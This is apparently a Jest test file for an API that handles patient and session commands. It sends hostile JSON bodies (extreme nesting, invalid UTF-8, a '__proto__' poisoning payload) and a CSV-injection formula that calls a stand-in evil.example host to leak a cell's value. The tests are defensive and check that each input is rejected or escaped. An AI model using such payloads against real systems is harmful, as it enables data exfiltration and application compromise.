import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { MAX_JSON_DEPTH } from '../../apps/api/bootstrap/json-body.js';
import { commandNames } from '../../libs/domain/commands.js';
import { startTestApp, type TestApp } from '../support/app.js';
import { apiKeysEnv, eventLog, TEST_KEYS, type Reply } from '../support/commands.js';
import { expectProblem } from '../support/problems.js';

/** `depth` arrays nested in one another around `inner`, as JSON text. */
const nestedArrays = (depth: number, inner = '1') => `${'['.repeat(depth)}${inner}${']'.repeat(depth)}`;

/** Bodies an attacker sends: malformed below JSON's level (bytes) or beyond any command's shape. */
describe('hostile JSON bodies [embedded store]', () => {
  let app: TestApp;
  beforeAll(async () => {
    app = await startTestApp('embedded', apiKeysEnv);
  });
  afterAll(async () => app?.close());

  async function post(name: string, payload: string | Buffer): Promise<Reply> {
    const res = await app.app.inject({
      method: 'POST',
      url: `/commands/${name}`,
      headers: { authorization: `Bearer ${TEST_KEYS.service}`, 'content-type': 'application/json' },
      payload,
    });
    let body: unknown;
    try {
      body = res.json();
    } catch {
      body = undefined;
    }
    return { status: res.statusCode, headers: res.headers, raw: res.body, body };
  }

  it.each(commandNames)(
    'defect 3: a %s body nested 2,000 deep is a 400 naming the field, not a 500; nothing stored',
    async (name) => {
      const log = await eventLog(app).mark();
      const res = await post(name, `{"patientId":"p-deep","notes":${nestedArrays(2000)}}`);
      const problem = expectProblem(res, 400, 'too_deep');
      expect(problem.errors).toEqual([{ path: 'notes', message: `nested deeper than ${MAX_JSON_DEPTH} levels` }]);
      expect(await log.appended()).toEqual([]);
    },
  );

  it('defect 3: 10,000 deep objects, and a bare 10,000-deep array, are 400 too', async () => {
    const log = await eventLog(app).mark();
    const objects = `{"metadata":${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)},"sessionId":"s1"}`;
    expectProblem(await post('StartSession', objects), 400, 'too_deep');
    const bare = expectProblem(await post('RegisterPatient', nestedArrays(10_000)), 400, 'too_deep');
    expect(bare.errors).toEqual([{ path: '', message: expect.any(String) }]);
    expect(await log.appended()).toEqual([]);
  });

  it(`accepts nesting up to ${MAX_JSON_DEPTH} levels (then the command's own schema decides)`, async () => {
    const res = await post(
      'StartSession',
      `{"sessionId":"s-ok","playerId":"nobody","sessionType":"training","startTime":"2025-04-01T10:00:00Z","metadata":${'{"a":'.repeat(MAX_JSON_DEPTH - 1)}1${'}'.repeat(MAX_JSON_DEPTH - 1)}}`,
    );
    expectProblem(res, 404, 'not_found'); // valid input; the player is not registered
  });

  it.each([
    ['a lone continuation byte', Buffer.from([0x80])],
    ['an invalid byte pair', Buffer.from([0xff, 0xfe])],
    ['a truncated sequence', Buffer.from([0xe2, 0x82])],
    ['an overlong encoding of "/"', Buffer.from([0xc0, 0xaf])],
    ['an encoded surrogate', Buffer.from([0xed, 0xa0, 0x80])],
  ])('defect 4: invalid UTF-8 (%s) in a string is a 400, not stored as U+FFFD', async (_what, bad) => {
    const log = await eventLog(app).mark();
    const payload = Buffer.concat([
      Buffer.from('{"patientId":"p-utf8","firstName":"a'),
      bad,
      Buffer.from('b","lastName":"Lovelace"}'),
    ]);
    const res = await post('RegisterPatient', payload);
    const problem = expectProblem(res, 400, 'invalid_encoding');
    expect(problem.detail).toMatch(/UTF-8/);
    // The decoder notices at the bad byte (36) or, for an unfinished sequence, at the byte after it.
    expect(problem.errors).toEqual([{ path: '', message: expect.stringMatching(/^invalid UTF-8 at byte 3[678]$/) }]);
    expect(await log.appended()).toEqual([]);
    expect(await eventLog(app).stream('patient-p-utf8')).toEqual([]);
  });

  it('stores valid multi-byte UTF-8 exactly as sent', async () => {
    const res = await post(
      'RegisterPatient',
      Buffer.from('{"patientId":"p-zoe","firstName":"Zoë 😀","lastName":"Ōkubo"}', 'utf8'),
    );
    expect(res.status).toBe(201);
    const [event] = await eventLog(app).stream('patient-p-zoe');
    expect(event?.data).toMatchObject({ firstName: 'Zoë 😀', lastName: 'Ōkubo' });
  });

  it('still refuses prototype poisoning and broken JSON with 400', async () => {
    expectProblem(
      await post('RegisterDoctor', '{"doctorId":"d1","name":"x","__proto__":{"admin":true}}'),
      400,
      'invalid_json',
    );
    expectProblem(await post('RegisterDoctor', '{"doctorId":'), 400, 'invalid_json');
    expectProblem(await post('RegisterDoctor', ''), 400, 'invalid_json');
  });

  it('defect 6: a formula sent as data comes out of the CSV export as text', async () => {
    const send = (name: string, body: object) => post(name, JSON.stringify(body));
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    expect(
      (
        await send('RegisterPatient', {
          patientId: 'p-csv',
          firstName: 'C',
          lastName: 'SV',
          sportType: formula,
          teamId: 'team-1',
        })
      ).status,
    ).toBe(201);
    const logged = await send('LogSymptom', {
      patientId: 'p-csv',
      symptomId: 'headache',
      severity: 2,
      loggedAt: '2025-05-01T08:00:00Z',
    });
    expect(logged.status).toBe(201);
    const res = await app.app.inject({
      method: 'GET',
      url: '/exports/tracker',
      headers: {
        authorization: `Bearer ${TEST_KEYS.reader}`,
        accept: 'text/csv',
        'x-min-position': (logged.body as { position: string }).position,
      },
    });
    expect(res.statusCode).toBe(200);
    const row = res.body.split('\r\n').find((line) => line.startsWith('p-csv,'));
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(row?.split(',').some((cell) => /^"?[=+@-]/.test(cell))).toBe(false);
  });
});
